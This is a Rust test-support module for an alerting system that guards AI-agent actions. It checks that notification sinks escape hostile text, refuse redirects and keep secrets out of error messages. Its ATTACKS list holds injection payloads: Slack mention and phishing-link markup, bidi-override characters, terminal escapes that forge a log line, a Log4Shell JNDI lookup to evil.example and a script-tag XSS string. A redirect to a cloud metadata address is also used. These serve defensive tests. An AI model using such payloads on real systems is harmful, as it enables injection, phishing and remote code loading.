//! Messages, harmless and hostile ones, and what every sink must do about a receiver that fails.

use checkrein_core::{
    action::{Category, Count, Environment},
    decision::{Basis, BlastRadius, ResourceCount},
    name::Name,
    signal::{Notification, Severity, Signal, Status},
    time::Timestamp,
    touched::How,
};
use checkrein_signals::{
    Failure, Retry, Sink,
    http::{Http, HttpConfig},
};
use checkrein_testbed::receivers::scripted::{Act, Receiver, Reply};
use secrecy::SecretString;
use std::time::Duration;

pub(crate) fn at(seconds: i64) -> Timestamp {
    Timestamp::from_micros(1_795_338_605_123_456).plus_seconds(seconds)
}

/// A client that may connect to this machine, and is not patient.
pub(crate) fn http() -> Http {
    let timeout = Duration::from_millis(1500);
    Http::new(&HttpConfig { allow_private: true, timeout, ..HttpConfig::default() }).unwrap()
}

pub(crate) fn secret(text: &str) -> SecretString {
    SecretString::from(text)
}

pub(crate) fn signal() -> Signal {
    let share = |resource: &str, records, how| ResourceCount {
        resource: Name::new(resource).unwrap(),
        records: Count::Known(records),
        how: Some(how),
    };
    Signal {
        id: "sig_4711".to_owned(),
        kind: "action.blocked".to_owned(),
        severity: Severity::Critical,
        status: Status::Firing,
        condition: "blocked:billing-bot:blast_radius_limit".to_owned(),
        at: at(90),
        summary: "billing-bot was blocked: delete on production.users touches 62310 records, over 25"
            .to_owned(),
        agent: Some("billing-bot".to_owned()),
        session: Some("nightly-cleanup".to_owned()),
        action: Some("delete".to_owned()),
        category: Some(Category::Delete),
        environment: Some(Environment::Production),
        resource: Some("production.users".to_owned()),
        tool: Some("run_sql".to_owned()),
        blast_radius: Some(BlastRadius {
            records: Count::Known(62_310),
            systems: Count::Known(1),
            recipients: Count::Known(0),
            basis: Basis::Counted,
            declared: Some(12),
            declared_ids: false,
            understated: true,
            by_resource: vec![
                share("production.orders", 52_310, How::Cascade),
                share("production.users", 10_000, How::Delete),
            ],
        }),
        policies: vec!["blast_radius_limit".to_owned(), "no_production_deletes".to_owned()],
        check_id: Some("chk_0192f0c1".to_owned()),
        approval_id: None,
        snapshot_id: None,
        rollback_id: None,
        by: None,
        next: Some("checkrein log show chk_0192f0c1".to_owned()),
    }
}

pub(crate) fn message() -> Notification {
    Notification {
        delivery_id: "dlv_1".to_owned(),
        dedup_key: "grp_blocked:billing-bot".to_owned(),
        status: Status::Firing,
        severity: Severity::Critical,
        count: 38,
        first_at: at(0),
        last_at: at(90),
        signals: vec![
            signal(),
            Signal { summary: "billing-bot was blocked: the one before".to_owned(), ..signal() },
        ],
        link: Some("https://checkrein.example/console/checks/chk_0192f0c1?tab=a&b=c".to_owned()),
    }
}

pub(crate) fn resolved() -> Notification {
    let mut message = Notification { status: Status::Resolved, delivery_id: "dlv_2".to_owned(), ..message() };
    message.signals[0].status = Status::Resolved;
    message
}

/// What an agent might call things, in the hope that somebody shows it.
pub(crate) const ATTACKS: &[&str] = &[
    "<!channel> <!here> <@U012AB3CD> <https://evil.example|Approve> &lt;!channel&gt;",
    "*bold* _it_ ~no~ `code` ```block``` [click](https://evil.example) ![x](https://evil.example/x.png) <at>Bob</at>",
    "\u{202e}gnp.exe \u{200b}\u{feff}zero\u{2066} width\u{2069} \u{e0041}\u{e0042}",
    "\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}x\u{9b}31m\r\nNov 22 09:00:00 host checkrein: all is well\u{85}\u{2028}",
    "{{7*7}} ${jndi:ldap://evil.example} {\"ok\":true} </script><script>alert(1)</script>",
    "",
    " ",
    "\u{0}",
    "👩‍👩‍👧‍👦🏳️‍🌈é\u{301}\u{301}\u{301}\u{301}",
];

/// Every text in it says `text`.
pub(crate) fn saying(text: &str) -> Notification {
    let all = |field: &mut Option<String>| *field = Some(text.to_owned());
    let mut message = message();
    for signal in &mut message.signals {
        signal.summary = text.to_owned();
        signal.policies = vec![text.to_owned(); if text.len() < 1000 { 30 } else { 1 }];
        for field in [&mut signal.agent, &mut signal.session, &mut signal.action, &mut signal.resource] {
            all(field);
        }
        for field in
            [&mut signal.tool, &mut signal.check_id, &mut signal.approval_id, &mut signal.snapshot_id]
        {
            all(field);
        }
        for field in [&mut signal.rollback_id, &mut signal.by, &mut signal.next] {
            all(field);
        }
        let blast = signal.blast_radius.as_mut().unwrap();
        let share = blast.by_resource[0].clone();
        blast.by_resource = vec![share; 500];
        (blast.records, blast.systems, blast.recipients) =
            (Count::Unknown, Count::Unknown, Count::Known(u64::MAX));
    }
    let more = message.signals[0].clone();
    if text.len() < 1_000_000 {
        message.signals.extend([more.clone(), more.clone(), more]);
    }
    message.count = u64::MAX;
    message
}

/// Hostile messages: each attack in every place, and texts that are far too long.
pub(crate) fn hostile() -> Vec<Notification> {
    let long = ["x".repeat(5_000_000), "&".repeat(100_000), "\u{202e}".repeat(100_000), "🚀".repeat(100_000)];
    ATTACKS.iter().copied().chain(long.iter().map(String::as_str)).map(saying).collect()
}

/// What every sink does about a receiver that fails, whatever its protocol: `secrets` are never shown.
pub(crate) async fn fails_well(sink: &dyn Sink, receiver: &Receiver, secrets: &[&str]) {
    let echo = format!("no, because of {}", secrets.join(" and "));
    let never = [400, 413, 415, 422];
    // A key that was changed, a receiver that is not there yet: no signal is to be lost for that.
    let settings = [301, 302, 307, 308, 401, 403, 404, 405, 407];
    for status in never.into_iter().chain(settings).chain([408, 425, 429, 500, 502, 503, 504, 529]) {
        receiver
            .answers([Reply::new(status, echo.clone()).header("location", "http://169.254.169.254/latest")]);
        let failure = sink.notify(&message()).await.unwrap_err();
        let expected = match status {
            _ if never.contains(&status) => Retry::Never,
            _ if settings.contains(&status) => Retry::Refused,
            _ => Retry::Later,
        };
        assert_eq!(failure.retry, expected, "{status}: {failure}");
        is_fit_to_print(&failure, secrets);
        assert!(failure.reason.contains(&status.to_string()), "{failure}");
        assert_eq!(receiver.take().len(), 1, "{status}: a redirect was followed, or a request repeated");
    }
    for (after, expected) in [
        ("7", Retry::After(Duration::from_secs(7))),
        ("0", Retry::Later),
        ("-3", Retry::Later),
        ("soon", Retry::Later),
        ("99999999999999999999", Retry::After(Duration::from_secs(3600))),
    ] {
        for status in [429, 503] {
            receiver.answers([Reply::new(status, "slow down").header("retry-after", after)]);
            assert_eq!(sink.notify(&message()).await.unwrap_err().retry, expected, "{after}");
        }
    }
    let half = b"HTTP/1.1 500 No\r\ncontent-length: 1000\r\n\r\nhalf".to_vec();
    let endless =
        [b"HTTP/1.1 400 No\r\ncontent-length: 9000000\r\n\r\n".to_vec(), vec![b'x'; 9_000_000]].concat();
    let acts = [
        (Act::Raw(b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()), Retry::Later),
        (Act::Raw(b"HTTP/1.1 200 OK\r\ncontent-le".to_vec()), Retry::Later),
        (Act::Raw(vec![0; 100]), Retry::Later),
        (Act::Raw(half), Retry::Later),
        (Act::Raw(endless), Retry::Never),
        (Act::Close, Retry::Later),
        (Act::Hang(Duration::from_secs(2)), Retry::Later),
        (Act::Slow(Duration::from_millis(400)), Retry::Later),
    ];
    for (act, retry) in acts {
        receiver.script([act.clone()]);
        let failure = sink.notify(&message()).await.unwrap_err();
        assert_eq!(failure.retry, retry, "{failure}");
        is_fit_to_print(&failure, secrets);
    }
    sink.notify(&message()).await.unwrap();
    receiver.take();
}

/// One line, of bounded length, with a cause and a next step, and without a secret.
pub(crate) fn is_fit_to_print(failure: &Failure, secrets: &[&str]) {
    let reason = &failure.reason;
    assert!(reason.chars().count() < 800 && !reason.contains(char::is_control), "{reason}");
    assert!([". ", "? ", "… "].iter().any(|end| reason.contains(end)), "no next step: {reason}");
    for secret in secrets {
        assert!(!reason.contains(secret), "{reason} holds {secret}");
    }
}

/// Holds docs/signals/`page`.md to what is really sent: its first block of JSON. With `UPDATE_DOCS=1`, writes it there.
pub(crate) fn is_documented(page: &str, sent: &serde_json::Value) {
    let file = format!("{}/../../docs/signals/{page}.md", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&file).unwrap();
    let shown = format!("```json message\n{}\n```", serde_json::to_string_pretty(sent).unwrap());
    if std::env::var_os("UPDATE_DOCS").is_some() {
        let (before, rest) = text.split_once("```json message\n").unwrap();
        let (_, after) = rest.split_once("\n```\n").unwrap();
        std::fs::write(&file, format!("{before}{shown}\n{after}")).unwrap();
    } else {
        assert!(
            text.contains(&shown),
            "docs/signals/{page}.md shows another message: run this with UPDATE_DOCS=1"
        );
    }
}
